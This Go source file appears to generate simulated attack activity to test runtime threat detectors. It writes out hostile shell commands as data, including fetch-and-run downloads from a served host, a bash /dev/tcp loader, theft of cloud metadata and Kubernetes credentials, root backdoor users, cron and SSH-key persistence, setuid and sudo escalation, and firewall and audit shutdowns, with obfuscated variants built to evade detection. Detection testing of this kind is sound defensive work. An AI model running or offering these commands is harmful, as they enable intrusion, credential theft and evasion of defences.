package simulate

import (
	"encoding/base64"
	"fmt"
)

// encoded is a script that decodes another one and hands it to sh.
func encoded(script string) string {
	return "echo " + base64.StdEncoding.EncodeToString([]byte(script)) + " | base64 -d | sh"
}

// tool executes a program that does nothing under a tool's name and with its arguments.
func tool(name, summary string, line ...string) Technique {
	return act(name, summary, append([]string{"stand-in"}, line...)...)
}

// commands are the reproductions of command lines and tools that tell what is going on.
func commands() []Reproduction {
	script := fmt.Sprintf("http://%s:%d/x.sh", hostAddress, servedPort)
	program := fmt.Sprintf("http://%s:%d/x.elf", hostAddress, servedPort)
	return []Reproduction{
		{"Execution:Runtime/SuspiciousCommand", "A command downloads something from a strange place and runs it at once.", []Technique{
			shell("curl", "curl | sh", "curl -fsSL "+script+" | sh").needs("curl"),
			shell("wget", "wget -O- | sh", "wget -q -O - "+script+" | sh").needs("wget"),
			shell("busybox", "busybox wget, busybox sh", "busybox wget -q -O - "+script+" | busybox sh").needs("busybox"),
			shell("file", "download, chmod, run", "wget -q -O /tmp/.x "+program+"; chmod 777 /tmp/.x; /tmp/.x; rm -f /tmp/.x").needs("wget", "chmod"),
			command("bash-tcp", "bash and its /dev/tcp, no downloader", "bash", "-c", fmt.Sprintf(
				`exec 5<>/dev/tcp/%s/%d; printf 'GET /x.sh HTTP/1.0\r\n\r\n' >&5; while read -r l <&5; do [ ${#l} -le 1 ] && break; done; bash <&5`, hostAddress, servedPort)).needs("bash").evading("the downloader"),
			shell("substitution", `sh -c "$(wget …)"`, `sh -c "$(wget -q -O - `+script+`)"`).needs("wget"),
			shell("encoded", "the command is encoded in base64", encoded("wget -q -O - "+script+" | sh")).needs("base64", "wget").evading("the words"),
			shell("field-separator", "${IFS} instead of spaces", "wget${IFS}-q${IFS}-O${IFS}-${IFS}"+script+"|sh").needs("wget").evading("the words"),
			shell("quotes", "quotes within the words", `w"g"et -q -O - `+script+` | s\h`).needs("wget").evading("the words"),
			perl("perl", "perl runs the same", `system("wget -q -O - `+script+` | sh")`).needs("wget").evading("the shell's command line"),
		}},
		{"Execution:Runtime/SuspiciousTool", "A tool for attacks is run (here a program that does nothing, with the tool's name and arguments).", []Technique{
			tool("nmap", "a network scanner", "/usr/local/bin/nmap", "-sS", "-p-", "10.0.0.0/8"),
			tool("masscan", "a network scanner", "/tmp/masscan", "10.0.0.0/8", "-p22,2375,6379", "--rate", "10000"),
			tool("hydra", "a password guesser", "/usr/local/bin/hydra", "-l", "root", "-P", "/tmp/words", "ssh://10.0.0.5"),
			tool("msfconsole", "a toolkit for attacks", "/opt/metasploit/msfconsole", "-q", "-x", "use exploit/multi/handler"),
			tool("tcpdump", "a sniffer", "/usr/local/bin/tcpdump", "-i", "any", "-w", "/tmp/x.pcap"),
			tool("deepce", "a container escape checker", "/tmp/cdk", "evaluate", "--full"),
			tool("renamed", "a scanner under another name", "/tmp/.update", "-sS", "-Pn", "-p", "1-65535", "--script", "vuln", "10.0.0.0/24").evading("the tool's name"),
			shell("script", "a script of a privilege checker", "printf '#!/bin/sh\\n:\\n' > /tmp/linpeas.sh; chmod 755 /tmp/linpeas.sh; /tmp/linpeas.sh -a").needs("chmod"),
		}},
		{"Impact:Runtime/CryptoMinerExecuted", "A miner is run (here a program that does nothing, with the miner's name and arguments).", []Technique{
			tool("xmrig", "xmrig with a pool", "/tmp/xmrig", "-o", "stratum+tcp://pool.example.net:3333", "-u", "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD", "-p", "x", "--donate-level", "1"),
			tool("minerd", "minerd", "/usr/local/bin/minerd", "-a", "cryptonight", "-o", "stratum+tcp://198.51.100.77:5555", "-u", "wallet.1", "-p", "x"),
			tool("xmr-stak", "xmr-stak without arguments", "/opt/xmr-stak"),
			tool("renamed", "under another name", "/tmp/kdevtmpfsi", "--url=stratum+ssl://203.0.113.11:443", "--user=wallet", "--pass=x", "--coin=monero").evading("the miner's name"),
			tool("quiet", "under another name, with a configuration file", memoryFolder+"/.sshd", "--config="+memoryFolder+"/.c.json", "--cpu-max-threads-hint=75", "--randomx-1gb-pages", "--donate-level=0").evading("the name and the pool"),
			shell("script", "copied, started in the background by a script", "cp /bin/true /tmp/xmrig-6.21 && { nohup /tmp/xmrig-6.21 -o pool.example.net:443 --tls -k >/dev/null 2>&1 & wait; }").needs("cp", "true", "nohup"),
		}},
		{"Discovery:Runtime/SuspiciousCommand", "Commands find out where an intruder is.", []Technique{
			shell("system", "who, what, where", "id; whoami; uname -a; cat /etc/os-release /etc/passwd /proc/version /proc/1/cgroup; mount; ps aux").needs("id", "whoami", "uname", "cat", "mount", "ps"),
			shell("credentials", "the task's credentials", "env | grep -i aws; wget -q -T 1 -t 1 -O - http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI").needs("env", "grep", "wget"),
			shell("metadata", "the instance's metadata service", "curl -s -m 1 http://169.254.169.254/latest/meta-data/iam/security-credentials/").needs("curl"),
			shell("kubernetes", "the pod's token and what it may do", "cat /var/run/secrets/kubernetes.io/serviceaccount/token; kubectl auth can-i --list; kubectl get secrets -A").needs("cat"),
			shell("aws", "the account", "aws sts get-caller-identity; aws iam list-users; aws s3 ls"),
			shell("keys", "keys and secrets", "find / -xdev -name id_rsa -o -name '*.pem' -o -name credentials 2>/dev/null").needs("find"),
			command("bash", "from bash, encoded", "bash", "-c", encoded("whoami; id; uname -a; cat /etc/shadow; ls -la /root/.ssh /home/app")).needs("bash", "base64", "whoami").evading("the words"),
			perl("perl", "from perl", `print qx(id), qx(uname -a), qx(cat /etc/passwd), qx(ps aux); print "$_=$ENV{$_}\n" for keys %ENV`).needs("uname", "ps").evading("the shell's command line"),
		}},
		{"Persistence:Runtime/SuspiciousCommand", "A command makes sure that an intruder comes back.", []Technique{
			shell("crontab", "a line for cron", "(crontab -l 2>/dev/null; echo '* * * * * wget -q -O - "+script+" | sh') | crontab -"),
			shell("systemctl", "a new service", "systemctl enable --now sshd-helper.service"),
			shell("useradd", "a second root", "useradd -o -u 0 -g 0 -M -s /bin/sh backdoor"),
			shell("busybox", "busybox starts the program", "busybox env -i useradd -o -u 0 -s /bin/sh helper").needs("busybox").evading("the command's first word"),
			shell("cron.d", "a file for cron", "mkdir -p /etc/cron.d; echo '* * * * * root /tmp/.x' >> /etc/cron.d/sys").needs("mkdir"),
			shell("authorized_keys", "a key for root", "mkdir -p /root/.ssh; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFRoaXMgaXMgbm8ga2V5IGF0IGFsbCwgcmVhbGx5 x@x' >> /root/.ssh/authorized_keys").needs("mkdir"),
			command("bash", "from bash, with quotes in the words", "bash", "-c", `sys"tem"ctl enable ssh''d-helper`).needs("bash").evading("the words"),
			perl("perl", "from perl", `system("useradd","-o","-u","0","toor")`).evading("the shell's command line"),
		}},
		{"PrivilegeEscalation:Runtime/SuspiciousCommand", "A command tries to get more rights.", []Technique{
			shell("setuid-shell", "a set-user-id copy of the shell", "cp /bin/sh /tmp/.s && chmod u+s /tmp/.s && rm -f /tmp/.s").needs("cp", "chmod", "rm"),
			shell("find", "a search for set-user-id files", "find / -xdev -perm -4000 -type f 2>/dev/null").needs("find"),
			shell("nsenter", "the host's namespaces", "nsenter -t 1 -m -u -i -n -p sh -c id").needs("nsenter"),
			shell("sudo", "CVE-2019-14287", "sudo -u#-1 id"),
			shell("sudoers", "no password for the user app", "echo 'app ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers"),
			shell("setcap", "a capability for an interpreter", "setcap cap_setuid+ep /bin/sh"),
			shell("docker", "a container with the host's files", "docker run --rm -v /:/host --privileged alpine chroot /host sh"),
			shell("unshare", "namespaces of an own", "unshare -Urm sh -c id").needs("unshare"),
			shell("numeric", "the same mode as a number", "cp /bin/sh /tmp/.t && chmod 4755 /tmp/.t && rm -f /tmp/.t").needs("cp", "chmod", "rm").evading("the words"),
			shell("encoded", "the command is encoded in base64", encoded("cp /bin/sh /tmp/.u; chmod +s /tmp/.u; rm -f /tmp/.u")).needs("base64", "cp", "chmod", "rm").evading("the words"),
			perl("perl", "from perl", `system("nsenter --target 1 --mount --pid -- id")`).needs("nsenter").evading("the shell's command line"),
		}},
		{"DefenseEvasion:Runtime/SuspiciousCommand", "A command switches off what would hinder or see an intruder.", []Technique{
			shell("iptables", "the firewall's rules go", "iptables -F; iptables -P INPUT ACCEPT"),
			shell("ufw", "the firewall goes", "ufw disable"),
			shell("crontab", "cron's lines go", "crontab -r"),
			shell("systemctl", "services that watch go", "systemctl stop auditd; systemctl disable --now firewalld"),
			shell("service", "the same the old way", "service rsyslog stop"),
			shell("preload", "a library for every program", "echo /usr/local/lib/libx.so > /etc/ld.so.preload.new && mv /etc/ld.so.preload.new /etc/ld.so.preload && rm /etc/ld.so.preload").needs("mv", "rm"),
			shell("preload-variable", "LD_PRELOAD from a folder that everybody can write to", "LD_PRELOAD=/tmp/.libx.so true").needs("true"),
			shell("selinux", "SELinux lets everything pass", "setenforce 0"),
			shell("nft", "the new firewall's rules go", "nft flush ruleset"),
			shell("quotes", "quotes within the words", `ip"tab"les --flu''sh`).evading("the words"),
			shell("encoded", "the command is encoded in base64", encoded("iptables -F; systemctl stop auditd")).needs("base64").evading("the words"),
			perl("perl", "from perl", `system("iptables","-F")`).evading("the shell's command line"),
		}},
	}
}
